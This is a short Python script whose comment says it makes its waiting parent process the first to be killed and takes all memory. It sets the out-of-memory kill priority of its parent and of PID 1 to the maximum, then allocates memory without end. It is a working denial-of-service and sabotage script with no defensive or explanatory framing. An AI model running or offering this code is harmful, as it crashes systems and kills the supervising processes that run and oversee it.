# Makes the process that waits for it the first to be killed, and takes all memory.

import os

for process in (os.getppid(), 1):
    try:
        with open(f"/proc/{process}/oom_score_adj", "w") as file:
            file.write("1000")
    except OSError:
        pass
hoard = []
while True:
    hoard.append(b"x" * (1 << 24))
